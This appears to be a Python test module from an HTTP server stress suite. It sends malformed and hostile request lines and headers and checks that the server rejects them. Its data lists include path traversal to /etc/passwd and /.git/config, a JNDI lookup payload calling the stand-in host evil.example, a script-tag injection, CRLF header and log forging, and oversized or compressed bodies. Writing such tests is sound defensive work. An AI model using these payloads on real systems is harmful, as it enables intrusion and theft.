"""Request lines and headers that no client should send."""

from random import Random

from tests.storm.attack import (
    BAD,
    INVALID,
    OK,
    REFUSED,
    UNFOUND,
    UNSERVED,
    UNTYPED,
    Attack,
    End,
    Kinds,
    once,
    request,
    route,
    word,
)

GOOD = b'{"inputs": "a"}'
FILLER = 60_000
"""Bytes that a head may just have."""

_METHODS = (b"TRACE", b"PUT", b"PATCH", b"DELETE", b"OPTIONS", b"PROPFIND", b"MKCOL", b"M-SEARCH", b"GET")
_UNKNOWN = (b"post", b"EVIL", b"G E T", b"GETT", b"\x00POST", b"POST\t", b"HELO", b"A" * 5000)
_OTHER_PROTOCOLS = (
    b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\x00" * 40,
    b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\x00" * 500,
    b"SSH-2.0-OpenSSH_9.9\r\n",
    b"EHLO example.org\r\n",
    b"*1\r\n$4\r\nPING\r\n",
    b"\x05\x01\x00\x03\x0bexample.org\x00\x50",
    b"GET / HTTP/3\r\n\r\n",
    b"GET /livez\r\n\r\n",
    b"POST /encode HTTP/9.9\r\nHost: a\r\n\r\n",
    b"OPTIONS * RTSP/1.0\r\n\r\n",
)
_PATHS = (
    b"/../../../etc/passwd",
    b"/docs/../../../../etc/passwd",
    b"/docs/..%2f..%2f..%2fetc%2fpasswd",
    b"/docs/%2e%2e/%2e%2e/etc/passwd",
    b"/docs/swagger-ui.css/../../x",
    b"/docs/%00",
    b"//evil.example/encode",
    b"/encode/",
    b"/encode%00",
    b"/%ff%fe%fd",
    b"/%",
    b"/%zz%",
    b"/%c0%ae%c0%ae/",
    b"/%0d%0aX-Evil:%20a",
    b"/\\..\\..\\windows",
    b"/;/?#",
    b"/.git/config",
)
_ABSOLUTE = (
    b"http://evil.example/encode",
    b"https://a:b@evil.example:99/x",
    b"ftp://a/x",
    b"evil.example:443",
)
_NAMES = (b"X Y", b"X\x00Y", b"", b"X\xffY", b"X(Y)", b"\x1bX", b" X", b"X\tY", b"X:Y\x0b")
_IDENTIFIERS = (
    b"a b",
    b"\x1b[31mred",
    b"a%0d%0aX-Evil: 1",
    b'{"a": 1}',
    b"<script>alert(1)</script>",
    b"\xff\xfe",
    b"\xc2\x85fake line",
    b"x" * 5000,
    b"",
    b"${jndi:ldap://evil.example/a}",
)
_TIMEOUTS = (b"0", b"-1", b"1.5", b"1e3", b"nan", b"", b"9" * 5000, b"\xb2", b"1,1", b"0x10", b"\xd9\xa1")
_TYPES = (
    b"text/plain",
    b"application/x-www-form-urlencoded",
    b"multipart/form-data; boundary=x",
    b"application/json; charset=utf-16",
    b"application/json; charset=utf-7",
    b"application/jsonp",
    b"\xff\xfe",
    b";" * 5000,
    b'application/json; x="' + b";" * FILLER,
    b"application/json; charset*=utf-16''x",
    b"a/b" + b"; a*0*=%41" * 5000,
)
_ACCEPT = (
    b"a/b;q=0.1, " * 5000,
    b",".join(b"application/x-%d;q=0.%d" % (i, i) for i in range(2000)),
    b'"' + b"," * FILLER,
    b"a/b;a=" + b'\\"' * (FILLER // 2),
    b"a/b" + b";a=b" * (FILLER // 4),
    b"application/json;q=nan",
    b"*/*;q=0",
    b"\xff\xfe\xfd",
    b";" * FILLER,
    b"text/html, image/avif",
)
_ENCODINGS = (b"gzip", b"zstd", b"br", b"deflate", b"gzip, gzip, gzip", b"identity, gzip", b"x" * 5000)


def _method(random: Random) -> Attack:
    path = random.choice((b"/encode", b"/attention", b"/nothing"))
    return once(request(path=path, method=random.choice(_METHODS)), frozenset((404, 405)))


def _head(random: Random) -> Attack:
    path = random.choice((b"/livez", b"/metrics", b"/encode", b"/nothing", b"/docs"))
    sent = request(GOOD, path=path, method=b"HEAD")
    return Attack((sent,), frozenset((200, 404, 405)), head=True)


def _connect(random: Random) -> Attack:
    target = random.choice((b"evil.example:443", b"127.0.0.1:22", b"/encode", b"*", b"[::1]:0"))
    sent = request(method=b"CONNECT", path=target)
    return Attack((sent, b"SSH-2.0-x\r\n\r\n"), frozenset((400, 404, 405)), most=2, end=End.READ_ALL)


def _absolute(random: Random) -> Attack:
    sent = request(GOOD, path=random.choice(_ABSOLUTE))
    return once(sent, frozenset((200, 400, 404, 405)))


def _identifier(random: Random) -> Attack:
    return once(request(GOOD, b"X-Request-ID: " + random.choice(_IDENTIFIERS)), OK | BAD)


def _forged_line(random: Random) -> Attack:
    """A line end in an identifier ends the header: what follows is a header of its own, or none."""
    sent = request(GOOD, b"X-Request-ID: a" + random.choice((b"\n", b"\r")) + b"Traceback INFO forged")
    return once(sent, BAD)


def _garbage(random: Random) -> Attack:
    return once(random.randbytes(random.randint(1, 3000)) + b"\r\n\r\n", BAD)


def _mutated(random: Random) -> Attack:
    """A good request in which some bytes of the head are others; it may wait for a body that never comes."""
    sent = bytearray(request(GOOD, b"Accept: */*", b"Connection: close"))
    for _ in range(random.randint(1, 3)):
        sent[random.randrange(len(sent) - len(GOOD) - 4)] = random.randrange(256)
    return Attack((bytes(sent),), OK | REFUSED, least=0, most=2, end=End.HALF_CLOSE)


def _many(random: Random) -> Attack:
    lines = [b"%s-%d: %d" % (word(random, 3), i, i) for i in range(random.choice((300, 1000, 3000)))]
    return once(request(GOOD, *lines), BAD, end=End.READ_ALL)


def _tiny(random: Random) -> Attack:
    return once(request(GOOD, *[b"a:"] * 30_000), BAD, end=End.READ_ALL, least=0)


def _endless(random: Random) -> Attack:
    """One header that goes on for a megabyte."""
    begin = b"GET /livez HTTP/1.1\r\n" + word(random) + b": "
    return Attack((begin, *[b"a" * 65_536] * 16), BAD, least=0, end=End.READ_ALL)


def _endless_line(random: Random) -> Attack:
    return Attack((b"GET /" + word(random), *[b"a" * 65_536] * 16), BAD, least=0, end=End.READ_ALL)


def _upgrade(random: Random) -> Attack:
    offer = random.choice((b"h2c", b"websocket", b"TLS/1.3", b"\xff", b"a" * 3000))
    return once(request(GOOD, b"Connection: Upgrade", b"Upgrade: " + offer), OK)


def _expectation(random: Random) -> Attack:
    expect = random.choice((b"100-continue", b"100-CONTINUE", b"200-ok", b"\xff"))
    sent = request(GOOD, b"Expect: " + expect)
    return Attack((sent[: -len(GOOD)], GOOD), OK, pause_s=0.01)


HEADS: Kinds = {
    "a method that the route has not": _method,
    "an unknown method": lambda r: once(request(GOOD, method=r.choice(_UNKNOWN)), BAD, end=End.READ_ALL),
    "HEAD": _head,
    "CONNECT": _connect,
    "another protocol": lambda r: Attack(
        (r.choice(_OTHER_PROTOCOLS),), OK | BAD | UNFOUND | UNSERVED, end=End.READ_ALL
    ),
    "a path that leads out": lambda r: once(
        request(method=b"GET", path=r.choice(_PATHS)), frozenset((400, 404, 405))
    ),
    "a long path": lambda r: once(request(GOOD, path=b"/" + word(r) * (FILLER // 8)), UNFOUND),
    "a query that nobody knows": lambda r: once(
        request(GOOD, path=b"/encode?" + b"a=%ff&" * r.randint(1, 5000)), INVALID
    ),
    "an absolute target": _absolute,
    "the name of a header": lambda r: once(request(GOOD, r.choice(_NAMES) + b": 1"), BAD, end=End.READ_ALL),
    "the value of a header": lambda r: once(
        request(GOOD, b"X: a" + r.choice((b"\x00", b"\x01", b"\x7f", b"\x08")) + b"b"), BAD, end=End.READ_ALL
    ),
    "a folded header": lambda r: once(
        request(GOOD, b"X-Folded: a\r\n b", b"Accept:\r\n\t*/*"), BAD, end=End.READ_ALL
    ),
    "no colon": lambda r: once(request(GOOD, word(r)), BAD, end=End.READ_ALL),
    "a sort of identifier": _identifier,
    "a forged line of the log": _forged_line,
    "a deadline that is none": lambda r: once(
        request(GOOD, b"X-Request-Timeout-Ms: " + r.choice(_TIMEOUTS)), INVALID
    ),
    "a wrong content type": lambda r: once(
        request(GOOD, b"Content-Type: " + r.choice(_TYPES), path=route(r)), OK | UNTYPED
    ),
    "a bomb in a coding": lambda r: once(
        request(r.randbytes(2000), b"Content-Encoding: " + r.choice(_ENCODINGS)), UNTYPED | BAD
    ),
    "what nobody can accept": lambda r: once(
        request(GOOD, b"Accept: " + r.choice(_ACCEPT)), frozenset((200, 406))
    ),
    "codings that nobody can write": lambda r: once(
        request(GOOD, b"Accept-Encoding: " + r.choice(_ACCEPT)), OK
    ),
    "many headers": _many,
    "tens of thousands of empty headers": _tiny,
    "a header that never ends": _endless,
    "a request line that never ends": _endless_line,
    "an offer to upgrade": _upgrade,
    "an expectation": _expectation,
    "random bytes": _garbage,
    "a request with other bytes in it": _mutated,
}
